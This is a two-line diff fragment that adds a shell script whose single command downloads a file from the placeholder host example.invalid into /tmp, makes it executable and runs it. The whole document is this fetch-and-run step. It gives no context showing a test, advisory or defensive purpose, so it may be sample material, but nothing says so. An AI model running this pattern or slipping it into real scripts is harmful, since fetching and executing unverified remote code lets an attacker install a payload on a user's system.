@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -o /tmp/x https://example.invalid/x && chmod +x /tmp/x && /tmp/x
